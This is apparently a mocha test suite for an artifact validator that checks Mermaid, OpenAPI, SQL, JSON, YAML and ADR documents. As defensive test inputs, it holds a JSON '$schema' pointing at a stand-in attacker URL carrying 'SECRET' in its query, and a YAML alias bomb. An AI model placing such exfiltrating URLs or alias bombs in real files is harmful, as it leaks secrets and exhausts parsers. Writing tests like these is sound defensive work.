import * as assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { extractArtifacts } from '../../../src/artifacts/extract';
import { adrProblems } from '../../../src/artifacts/markdownChecks';
import type { ValidationResult } from '../../../src/artifacts/types';
import { validateArtifact, type SqlValidator } from '../../../src/artifacts/validate';
import { fixtureText, lineOf } from './artifactPaths';

/** A stand-in for the SQL helper's module that records what it was asked. */
function fakeSql(result: ValidationResult): { loadSql: () => Promise<SqlValidator>; seen: string[] } {
  const seen: string[] = [];
  const sql: SqlValidator = {
    validateSql: async text => { seen.push(text); return result; },
    validateMigrations: async files => { seen.push(...files.map(f => f.path)); return result; },
  };
  return { loadSql: async () => sql, seen };
}

describe('validateArtifact (dispatch by kind)', function () {
  this.timeout(30_000);

  it('loads no package when the module is required: validators come on first use', () => {
    const out = path.resolve(__dirname, '../../../src/artifacts');
    // What it costs is measured by `npm run bench`; here only what is loaded, which does not vary with the load.
    const script = `for (const f of ['validate', 'extract', 'cliArtifacts', 'repair', 'mermaidProblems']) require(${JSON.stringify(out)} + '/' + f + '.js');
      console.log(JSON.stringify(Object.keys(require.cache).filter(k => k.includes('node_modules'))));`;
    const child = spawnSync(process.execPath, ['-e', script], { encoding: 'utf8' });
    assert.deepEqual(JSON.parse(child.stdout) as string[], []);
  });

  it('names the Node mermaid shim in one place only, so the mermaid modules also run in the webview', () => {
    const out = path.resolve(__dirname, '../../../src/artifacts');
    const naming = fs.readdirSync(out).filter(f => f.endsWith('.js') && f !== 'mermaidNode.js')
      .filter(f => /mermaidNode|require\("(?:mermaid|jsdom)"\)/.test(fs.readFileSync(path.join(out, f), 'utf8')));
    assert.deepEqual(naming, ['validate.js']);
  });

  it('checks a diagram with mermaid under jsdom when no parser is given (the CLI\'s case)', async () => {
    const result = await validateArtifact({ kind: 'mermaid', content: 'flowchart LR\n  api --> end\n' });
    assert.deepEqual([result.status, result.repaired], ['repaired', 'flowchart LR\n  api --> End\n']);
  });

  it('checks OpenAPI with redocly and mermaid with the parser it is given', async () => {
    assert.equal((await validateArtifact({ kind: 'openapi', content: fixtureText('openapi', 'valid', 'oai-petstore-3.0.yaml') })).status, 'valid');
    const parsed: string[] = [];
    const result = await validateArtifact({ kind: 'mermaid', content: 'flowchart LR\n  a --> b\n' }, { parseMermaid: async t => { parsed.push(t); } });
    assert.deepEqual([result.status, parsed], ['valid', ['flowchart LR\n  a --> b\n']]);
  });

  it('hands SQL to the SQL helper\'s validator, and says "unchecked" when it cannot be loaded', async () => {
    const fake = fakeSql({ status: 'invalid', problems: [{ line: 2, severity: 'error', message: 'relation "x" does not exist', source: 'postgres:42P01' }] });
    const result = await validateArtifact({ kind: 'sql', content: 'CREATE TABLE a (id int);\n' }, { loadSql: fake.loadSql });
    assert.deepEqual([result.status, fake.seen], ['invalid', ['CREATE TABLE a (id int);\n']]);
    const missing = await validateArtifact({ kind: 'sql', content: 'CREATE TABLE a (id int);\n' }, { loadSql: () => Promise.reject(new Error("Cannot find module './sql/validateSql'")) });
    assert.equal(missing.status, 'unchecked');
    assert.deepEqual(missing.problems.map(p => [p.severity, p.message]), [['info', "SQL validation unavailable: Cannot find module './sql/validateSql'"]]);
  });

  it('checks JSON strictly, with lines, and flags remote $schema (THREATS T10)', async () => {
    const bad = await validateArtifact({ kind: 'json', content: '{\n  "a": 1,\n  "b": [1, 2,]\n}\n' });
    assert.deepEqual(bad.problems.map(p => [p.line, p.severity]), [[3, 'error']]);
    const remote = await validateArtifact({ kind: 'json', content: '{\n  "$schema": "https://attacker.example/s.json?d=SECRET",\n  "name": "x"\n}\n' });
    assert.equal(remote.status, 'valid');
    assert.deepEqual(remote.problems.map(p => [p.line, p.severity, p.source]), [[2, 'warning', 'remote-url']]);
  });

  it('checks YAML streams: duplicate keys, alias bombs, remote $ref', async () => {
    const dup = await validateArtifact({ kind: 'yaml', content: 'a: 1\nb: 2\na: 3\n' });
    assert.deepEqual(dup.problems.map(p => [p.line, p.severity]), [[3, 'error']]);
    const docs = await validateArtifact({ kind: 'yaml', content: 'kind: A\n---\nkind: B\nspec:\n  $ref: "http://127.0.0.1:9/x"\n' });
    assert.deepEqual(docs.problems.map(p => [p.line, p.source]), [[5, 'remote-url']]);
    const bomb = ['a: &a [x, x, x, x, x, x, x, x, x]', ...'bcdefgh'.split('').map((c, i) => `${c}: &${c} [${Array(9).fill(`*${'abcdefgh'[i]}`).join(', ')}]`)].join('\n');
    const started = performance.now();
    const result = await validateArtifact({ kind: 'yaml', content: bomb });
    assert.equal(result.status, 'invalid');
    assert.ok(performance.now() - started < 1000);
  });

  it('checks ADRs lightly (warnings) and the blocks fenced inside them (on the ADR\'s lines)', async () => {
    const adr = extractArtifacts(fixtureText('answers', 'design-contract.md'), { final: true }).find(a => a.kind === 'adr');
    assert.ok(adr);
    const parse = async (t: string): Promise<void> => { if (/-->\s*$/m.test(t)) { throw new Error('Parse error on line 2: dangling arrow'); } };
    assert.deepEqual(await validateArtifact(adr, { parseMermaid: parse }), { status: 'valid', problems: [] });
    const broken = adr.content.replace('a[One deployable] --> b[Modules with their own tables]', 'a[One deployable] -->');
    const result = await validateArtifact({ ...adr, content: broken }, { parseMermaid: parse });
    assert.equal(result.status, 'invalid');
    assert.deepEqual(result.problems.map(p => [p.line, p.message]), [[lineOf(broken, 'a[One deployable] -->'), 'mermaid block: Parse error on line 2: dangling arrow']]);
  });

  it('writes a repaired diagram back into its ADR', async () => {
    const adr = '# 2. Queue\n\n## Status\n\nAccepted\n\n## Context\n\n```mermaid\nflowchart LR\n  api --> end\n```\n\n## Decision\n\nA queue.\n\n## Consequences\n\nRetries.\n';
    const parse = async (t: string): Promise<void> => { if (/--> end/.test(t)) { throw Object.assign(new Error('x'), { hash: { token: 'end', text: 'end', loc: { first_line: 2, last_line: 2, first_column: 2, last_column: 5 } } }); } };
    const result = await validateArtifact({ kind: 'adr', content: adr }, { parseMermaid: parse });
    assert.equal(result.status, 'repaired');
    assert.equal(result.repaired, adr.replace('api --> end', 'api --> End'));
    assert.deepEqual(result.changes, ['mermaid block at line 10: line 2: renamed the node id `end` to `End` (`end` is a keyword)']);
  });

  it('names missing ADR parts, accepting MADR\'s section names and status line', () => {
    assert.deepEqual(adrProblems('Some notes\n\n## Decision\n\nUse Kafka.\n').map(p => p.message), [
      'An ADR starts with a title: `# 1. Use PostgreSQL for orders`.',
      'No "Status" section (proposed, accepted, superseded...).',
      'No "Context" section (the forces that make a decision necessary).',
      'No "Consequences" section (what becomes easier or harder).',
    ]);
    const madr = '# Use Kafka\n\n* Status: accepted\n\n## Context and Problem Statement\n\nx\n\n## Decision Outcome\n\ny\n\n### Positive Consequences\n\nz\n';
    assert.deepEqual(adrProblems(madr), []);
  });

  it('leaves other code unchecked', async () => {
    assert.deepEqual(await validateArtifact({ kind: 'code', content: 'console.log(1)\n' }), { status: 'unchecked', problems: [] });
  });
});
